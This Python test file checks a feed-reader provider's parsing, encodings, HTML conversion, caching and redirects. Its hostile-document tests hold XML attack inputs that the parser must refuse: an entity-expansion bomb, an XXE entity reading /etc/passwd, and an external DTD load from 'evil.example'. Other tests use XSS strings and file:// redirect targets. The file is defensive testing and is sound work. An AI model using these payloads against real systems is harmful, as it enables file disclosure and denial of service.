"""Native tests: formats, hostile documents, HTML, and what is kept between calls. Run with the SDK in PYTHONPATH."""

import json
import os
import subprocess
import sys
import unittest
from datetime import timedelta
from pathlib import Path
from unittest import mock

sys.path.insert(0, str(Path(__file__).parent.parent))

import app
import json_feed
import store
import xml_feed
from feed import BadFeed, rfc3339
from html_text import markdown, plain
from larder_provider import CompletionRequest, Failed, Invalid, NotFound, NotModified, Query, Request, Unavailable, http, key_value
from larder_provider.values import Match

RSS = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:media="http://search.yahoo.com/mrss/">
<channel><title>The news</title><link>https://news.example</link><description>All of it</description>
<image><title>A logo</title><url>x</url></image>
<item><title>Caf\xe9 &amp; more&nbsp;news</title><media:title>wrong</media:title><link>https://news.example/1</link><guid>one</guid>
<description>Short</description><content:encoded><![CDATA[<p>Long <b>text</b></p>]]></content:encoded>
<dc:creator>Ann</dc:creator><category>a</category><category>b</category>
<pubDate>Sun, 06 Nov 1994 08:49:37 +0100</pubDate><enclosure url="https://news.example/1.mp3"/></item>
<item><title>Second</title><link>https://news.example/2</link></item>
<item><title>Second again</title><link>https://news.example/2</link></item>
</channel></rss>"""
ATOM = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;b&gt;Notes&lt;/b&gt;</title>
<author><name>Owner</name></author><link rel="self" href="https://x/self"/><link href="https://x/"/>
<entry><id>tag:1</id><title>One</title><link rel="alternate" href="https://x/1"/><updated>2026-02-03T04:05:06Z</updated>
<author><name>Bea</name></author><category term="t"/>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>a &lt; <a href="https://x/2">b</a></p></div></content>
</entry></feed>"""
RDF = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">
<channel><title>Old</title></channel><item><title>Item</title><link>https://x/1</link></item></rdf:RDF>"""
JSON = json.dumps({
    "version": "https://jsonfeed.org/version/1.1", "title": "J", "home_page_url": "https://j.example",
    "items": [{"id": 7, "title": "T", "content_text": "a < b\nc", "authors": [{"name": "Ann"}, 3], "tags": ["x", 1],
               "date_published": "2026-02-03T04:05:06+01:00"}, "nonsense"],
}).encode()


class Formats(unittest.TestCase):
    def test_rss(self):
        feed = xml_feed.parse(RSS)
        self.assertEqual((feed.title, feed.link, feed.summary), ("The news", "https://news.example", "All of it"))
        first = feed.items[0]
        self.assertEqual((first.title, first.id, first.author), ("Café & more\xa0news", "one", "Ann"))
        self.assertEqual((first.content, first.tags), ("<p>Long <b>text</b></p>", ["a", "b"]))
        self.assertEqual((first.date, first.attachments), ("1994-11-06T07:49:37Z", ["https://news.example/1.mp3"]))
        self.assertEqual([item.title for item in feed.unique_items().values()], [first.title, "Second"])

    def test_atom(self):
        feed = xml_feed.parse(ATOM)
        self.assertEqual((plain(feed.title), feed.link), ("**Notes**", "https://x/"))
        [item] = feed.items
        self.assertEqual((item.id, item.link, item.author, item.tags), ("tag:1", "https://x/1", "Bea", ["t"]))
        self.assertEqual(markdown(item.content), "a < [b](https://x/2)")
        self.assertEqual(item.date, "2026-02-03T04:05:06Z")

    def test_rdf_and_json(self):
        self.assertEqual([item.title for item in xml_feed.parse(RDF).items], ["Item"])
        feed = json_feed.parse(JSON)
        [item] = feed.items
        self.assertEqual((item.id, item.author, item.tags, item.date), ("7", "Ann", ["x"], "2026-02-03T03:05:06Z"))
        self.assertEqual(markdown(item.content), "a < b\nc")

    def test_dates(self):
        for text in ["", "yesterday", "9999999999", "Sun, 99 Nov 1994 08:49:37 GMT", "0001-01-01T00:00:00+14:00", "x" * 1000]:
            self.assertIsNone(rfc3339(text), text)


# Names of encodings as feeds declare them, each with a text that it can express.
ENCODINGS = {
    "utf-8": "Café ü 東", "UTF-16": "Café ü 東", "utf-32": "Café ü 東", "us-ascii": "Cafe", "iso-8859-1": "Café",
    "iso-8859-2": "Łódź", "ISO-8859-3": "Ĥ", "iso-8859-4": "Ŗ", "iso-8859-5": "Москва", "iso-8859-6": "سلام",
    "iso-8859-7": "Αθήνα", "iso-8859-8": "שלום", "iso-8859-9": "İstanbul", "iso-8859-10": "Þ", "iso-8859-13": "Žž",
    "iso-8859-14": "Ŵ", "iso-8859-15": "10 €", "iso-8859-16": "Ș", "windows-1250": "Łódź", "windows-1251": "Москва",
    "windows-1252": "“Café” – 10 €", "Windows-1253": "Αθήνα", "windows-1254": "İstanbul", "windows-1255": "שלום",
    "windows-1256": "سلام", "windows-1257": "Žž", "windows-1258": "Đ", "cp1252": "“x”", "koi8-r": "Москва", "koi8-u": "Київ",
    "macintosh": "Café", "x-mac-cyrillic": "Москва", "tis-620": "ไทย", "windows-874": "ไทย", "ibm866": "Москва", "gb2312": "中文新闻", "gbk": "中文新聞",
    "gb18030": "中文😀", "big5": "中文新聞", "Shift_JIS": "日本語ソ", "x-sjis": "日本語①", "windows-31j": "日本語①", "euc-jp": "日本語",
    "iso-2022-jp": "日本語", "euc-kr": "한국어", "ks_c_5601-1987": "똠", "iso-2022-kr": "한국어",
}
# The codec of Python for names that Python does not know.
CODECS = {"x-sjis": "cp932", "windows-31j": "cp932", "windows-874": "cp874", "x-mac-cyrillic": "mac_cyrillic", "ks_c_5601-1987": "cp949"}


def encoded(name, text):
    document = f'<?xml version="1.0" encoding="{name}"?><rss><channel><title>{text}</title><item><title>a &amp; b&nbsp;{text}</title></item></channel></rss>'
    return document.encode(CODECS.get(name, name))


class Encodings(unittest.TestCase):
    def test_encodings_that_feeds_declare(self):
        for name, text in ENCODINGS.items():
            with self.subTest(name):
                feed = xml_feed.parse(encoded(name, text))
                self.assertEqual((feed.title, feed.items[0].title), (text, f"a & b\xa0{text}"))

    def test_the_codecs_are_part_of_the_component(self):
        """A component contains only the modules that were imported when it was built."""
        program = f"import app, charset, sys; print([n for n in {list(ENCODINGS)} if 'encodings.' + charset.codec_of(n) not in sys.modules])"
        command = [sys.executable, "-B", "-c", program]
        result = subprocess.run(command, cwd=Path(__file__).parent.parent, capture_output=True, text=True, check=True)
        self.assertEqual(result.stdout, "[]\n")

    def test_a_wrong_encoding(self):
        for name in ["ebcdic-cp-us", "utf-7", "rot13", "zlib", "hex", "idna", "x" * 1000, "../x", "unicode_escape"]:
            document = f'<?xml version="1.0" encoding="{name}"?><rss/>'.encode()
            with self.subTest(name), self.assertRaises(BadFeed) as caught:
                xml_feed.parse(document)
            self.assertIn("encoding", str(caught.exception))
        # Bytes that the encoding does not have are replaced.
        damaged = encoded("gbk", "中").replace("中".encode("gbk"), b"\xff\xff")
        self.assertIn("\ufffd", xml_feed.parse(damaged).title)
        # A declaration that contradicts the mark at the beginning.
        document = '<?xml version="1.0" encoding="windows-1252"?><rss><channel><title>é</title></channel></rss>'
        self.assertEqual(xml_feed.parse(document.encode("utf-8-sig")).title, "é")
        self.assertEqual(xml_feed.parse(document.encode("utf-16")).title, "é")


class HostileDocuments(unittest.TestCase):
    def refused(self, document, reason):
        with self.assertRaises(BadFeed) as caught:
            xml_feed.parse(document)
        self.assertIn(reason, str(caught.exception))

    def test_entities(self):
        bomb = b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><rss><channel><title>&b;</title></channel></rss>'
        self.refused(bomb, "declares entities")
        self.refused(b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', "declares entities")
        self.refused(b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>', "declares entities")
        self.refused(b"<rss><channel><title>&unknown;</title></channel></rss>", "not valid XML")

    def test_limits(self):
        self.refused(b"<rss>" + b"<a>" * 100_000, "64 nested elements")
        self.refused(b"<rss><channel>" + b"<a/>" * 200_001 + b"</channel></rss>", "200000 elements")
        self.refused(b"<rss><channel><title>" + b"x" * 1_000_001 + b"</title></channel></rss>", "1000000 characters")
        items = xml_feed.parse(b"<rss><channel>" + b"<item><title>x</title></item>" * 600 + b"</channel></rss>").items
        self.assertEqual(len(items), 500)

    def test_other_documents(self):
        for document in [b"<html><body/></html>", b"<feed/>", b"<RDF/>"]:
            self.refused(document, "neither RSS nor Atom")
        for document in [b"", b"hello", b"<rss>", b"<rss>\xff</rss>", b"<rss>\x00</rss>"]:
            self.refused(document, "not valid XML")
        for document in [b"{", b"[" * 100_000, b"{}", b'{"version": 3}', b"{\xff"]:
            self.assertRaises(BadFeed, json_feed.parse, document)


class Html(unittest.TestCase):
    def test_markdown(self):
        for html, expected in [
            ("plain", "plain"),
            ("<h2>A</h2><p>b<br>c</p><ul><li>1<li>2</ul>", "## A\n\nb\nc\n\n- 1\n- 2"),
            ("<script>alert(1)</script><p onclick=x>a</p><style>b</style>", "a"),
            ("<a href='javascript:alert(1)'>a</a> <a href='https://x/(1)'>b</a>", "a b"),
            ("<pre>a\n  b &lt;</pre>", "```\na\n  b <\n```"),
            ("<img src=x alt='a cat'> &amp; <unknown>t", "(image: a cat) & t"),
        ]:
            self.assertEqual(markdown(html), expected, html)


class Web:
    """The responses of a server, and the requests that it received."""

    def __init__(self):
        self.responses, self.requests, self.now = {}, [], 1000.0

    def __enter__(self):
        self.patches = [mock.patch.object(http, "send_all", self.send_all), mock.patch.object(store.time, "time", lambda: self.now)]
        for patch in self.patches:
            patch.start()
        for key in list(key_value.shared.keys()):
            key_value.shared.delete(key)
        return self

    def __exit__(self, *_):
        for patch in self.patches:
            patch.stop()

    def send_all(self, requests):
        self.requests += requests
        return [self.respond(request) for request in requests]

    def respond(self, request):
        response = self.responses.get(request.url, http.Response(404))
        tag = isinstance(response, http.Response) and response.header("etag")
        return http.Response(304) if tag and (request.headers or {}).get("if-none-match") == tag else response


def provider(**feeds):
    os.environ["LARDER_SETTING_FEEDS"] = json.dumps(feeds)
    return app.Feeds()


class Kept(unittest.TestCase):
    LIMITS = store.Limits(300, 5, 10_000)

    def get(self, url="https://a.example/x"):
        return store.get_all({"a": url}, self.LIMITS)["a"]

    def test_a_feed_is_requested_once_in_an_interval(self):
        with Web() as web:
            web.responses["https://a.example/x"] = http.Response(200, [("ETag", '"1"')], b"one")
            self.assertEqual([self.get().body, self.get().body], [b"one", b"one"])
            self.assertEqual(len(web.requests), 1)
            web.now += 301
            self.assertEqual((self.get().body, len(web.requests)), (b"one", 2))
            self.assertEqual(web.requests[1].headers["if-none-match"], '"1"')
            web.now += 301
            web.responses["https://a.example/x"] = Unavailable("down")
            self.assertEqual((self.get().body, self.get().body, len(web.requests)), (b"one", b"one", 3))
            # Another address is another feed.
            self.assertIsInstance(self.get("https://b.example/x"), NotFound)

    def test_the_announced_time_counts_if_it_is_longer(self):
        for value, lifetime in [("max-age=600", 600), ("max-age=9", 300), ("no-cache", 300), ("max-age=99999999999", 86400)]:
            with Web() as web:
                web.responses["https://a.example/x"] = http.Response(200, [("Cache-Control", value)], b"x")
                self.assertEqual(self.get().lifetime, lifetime)

    def test_redirects(self):
        with Web() as web:
            web.responses["https://a.example/x"] = http.Response(302, [("location", "/y")])
            web.responses["https://a.example/y"] = http.Response(200, [], b"moved")
            self.assertEqual(self.get().body, b"moved")
            web.responses["https://a.example/y"] = http.Response(302, [("location", "/x")])
            web.now += 301
            self.assertEqual(self.get().body, b"moved")
        for location in ["http://a.example/z", "file:///etc/passwd", "https://u:p@a.example/", "//[", ""]:
            with Web() as web:
                web.responses["https://a.example/x"] = http.Response(302, [("location", location)])
                self.assertIsInstance(self.get(), Failed, location)

    def test_a_failure_is_kept_for_the_interval(self):
        with Web() as web:
            web.responses["https://a.example/x"] = Unavailable("down")
            self.assertEqual([str(self.get()), str(self.get())], ["down", "down"])
            self.assertIsInstance(self.get(), Unavailable)
            self.assertEqual(len(web.requests), 1)
            web.now += 301
            web.responses["https://a.example/x"] = http.Response(200, [], b"one")
            self.assertEqual((self.get().body, len(web.requests)), (b"one", 2))

    def test_a_slow_call_does_not_replace_what_was_requested_later(self):
        url = "https://a.example/x"
        with Web() as web:
            web.responses[url] = http.Response(200, [], b"one")
            self.get()
            for slow in [http.Response(200, [], b"one"), Unavailable("down")]:
                web.now += 301

                def send_all(requests):
                    # Another call begins later and ends earlier.
                    web.now += 1
                    web.responses[url] = http.Response(200, [], b"two")
                    with mock.patch.object(http, "send_all", web.send_all):
                        self.assertEqual(self.get().body, b"two")
                    return [slow]

                with mock.patch.object(http, "send_all", send_all):
                    self.assertEqual(self.get().body, b"two")
                self.assertEqual(self.get().body, b"two")
            # A clock that is set back does not keep a response for ever.
            web.now -= 1000
            web.responses[url] = http.Response(200, [], b"three")
            self.assertEqual([self.get().body, self.get().body], [b"three", b"three"])

    def test_a_large_feed_is_refused(self):
        with Web() as web:
            web.responses["https://a.example/x"] = http.Response(200, [], b"x" * 10_001)
            self.assertIsInstance(self.get(), Invalid)
            key_value.shared.set("feed/a", b"{}\nnonsense")
            self.assertIsInstance(self.get(), Invalid)


class Resources(unittest.TestCase):
    def setUp(self):
        self.web = self.enterContext(Web())
        self.web.responses = {
            "https://news.example/rss": http.Response(200, [], RSS),
            "https://j.example/json": http.Response(200, [], JSON),
            "https://bad.example/": http.Response(200, [], b"<html/>"),
            "https://greek.example/": http.Response(200, [], encoded("iso-8859-7", "Αθήνα")),
            "https://odd.example/": http.Response(200, [], encoded("iso-8859-7", "x").replace(b"iso-8859-7", b"ebcdic")),
            "https://pair.example/": http.Response(200, [], JSON.replace(b'"T"', b'"half \\ud800 pair"')),
        }
        urls = {"news": "https://news.example/rss", "j": "https://j.example/json", "bad": "https://bad.example/"}
        self.provider = provider(**urls, gone="https://gone.example/")

    def test_lists_feeds_and_entries(self):
        page = self.provider.list(Query(limit=100))
        uris = [entry.uri for entry in page.entries]
        self.assertEqual(uris, sorted(uris))
        self.assertEqual([uri for uri in uris if uri.count("/") == 2], ["feeds://bad", "feeds://gone", "feeds://j", "feeds://news"])
        self.assertEqual(len(uris), 7)
        self.assertEqual(page.freshness.ttl_ms, 300_000)

    def test_a_bad_feed_takes_away_only_itself(self):
        self.provider = provider(
            greek="https://greek.example/", odd="https://odd.example/", pair="https://pair.example/", news="https://news.example/rss"
        )
        page = self.provider.list(Query(limit=100))
        counts = {name: sum(entry.uri.startswith(f"feeds://{name}") for entry in page.entries) for name in ["greek", "odd", "pair", "news"]}
        self.assertEqual(counts, {"greek": 2, "odd": 1, "pair": 2, "news": 3})
        # What is returned has to be valid UTF-8.
        str(page).encode()
        self.assertIn("Αθήνα", self.provider.read(Request("feeds://greek")).contents.body)
        with self.assertRaises(Failed) as caught:
            self.provider.read(Request("feeds://odd"))
        self.assertIn("encoding `ebcdic`", str(caught.exception))
        hits = self.provider.search(mock.Mock(text="Αθήνα", limit=5, uri_prefix=None, kind=None))
        self.assertEqual(len(hits), 1)

    def test_an_unexpected_error_takes_away_only_its_feed(self):
        real = xml_feed.parse

        def parse(document):
            if b"Caf" in document:
                raise LookupError("something that nobody thought of")
            return real(document)

        with mock.patch.object(xml_feed, "parse", parse):
            uris = [entry.uri for entry in self.provider.list(Query(limit=100)).entries]
            self.assertEqual([uri for uri in uris if "//j" in uri or "//news" in uri], ["feeds://j", uris[3], "feeds://news"])
            with self.assertRaises(Failed) as caught:
                self.provider.read(Request("feeds://news"))
            self.assertIn("nobody thought of", str(caught.exception))
            versions = self.provider.versions(["feeds://news", "feeds://j"])
            self.assertEqual([version is None for version in versions], [True, False])
            self.assertEqual(len(self.provider.search(mock.Mock(text="T", limit=5, uri_prefix=None, kind=None))), 1)

    def test_reads(self):
        reading = self.provider.read(Request("feeds://news"))
        text = reading.contents.body
        self.assertIn("# The news\n\nhttps://news.example\nAll of it\n", text)
        slug = text.split("(feeds://news/")[1].split(")")[0]
        entry = self.provider.read(Request(f"feeds://news/{slug}", Match(app.ENTRY, [("feed", "news"), ("entry", slug)])))
        self.assertIn("Author: Ann", entry.contents.body)
        self.assertIn("Long **text**", entry.contents.body)
        versions = self.provider.versions(["feeds://news", f"feeds://news/{slug}", "feeds://news/none", "feeds://gone", "x:y"])
        self.assertEqual(versions, [reading.version, entry.version, None, None, None])
        with self.assertRaises(NotModified):
            self.provider.read(Request("feeds://news", known_version=reading.version))
        for uri in ["feeds://other", "feeds://news/none", "feeds://news/", "feeds://", "x:y", "feeds://gone"]:
            self.assertRaises(NotFound, self.provider.read, Request(uri))
        self.assertRaises(Failed, self.provider.read, Request("feeds://bad"))

    def test_completes_and_searches(self):
        def complete(variable, prefix, **filled):
            return self.provider.complete(CompletionRequest(app.ENTRY, variable, prefix, list(filled.items()))).values

        self.assertEqual(complete("feed", "n"), ["news"])
        [slug] = complete("entry", "", feed="j")
        self.assertEqual(complete("entry", slug[:3], feed="j"), [slug])
        self.assertEqual(complete("entry", "", feed="other"), [])
        hits = self.provider.search(mock.Mock(text="LONG text", limit=5, uri_prefix=None, kind=None))
        self.assertEqual([hit.excerpt for hit in hits], ["Long **text**"])

    def test_settings(self):
        for feeds in ["", "3", "{}", '{"A": "https://x"}', '{"a": "file:///x"}', '{"a": 3}']:
            os.environ["LARDER_SETTING_FEEDS"] = feeds
            self.assertRaises(Failed, app.Feeds().list, Query())
            self.assertIn("cannot start: the setting `feeds`", app.Feeds().describe().summary)
        self.assertEqual(app.Feeds().interval, timedelta(minutes=5))


if __name__ == "__main__":
    unittest.main()
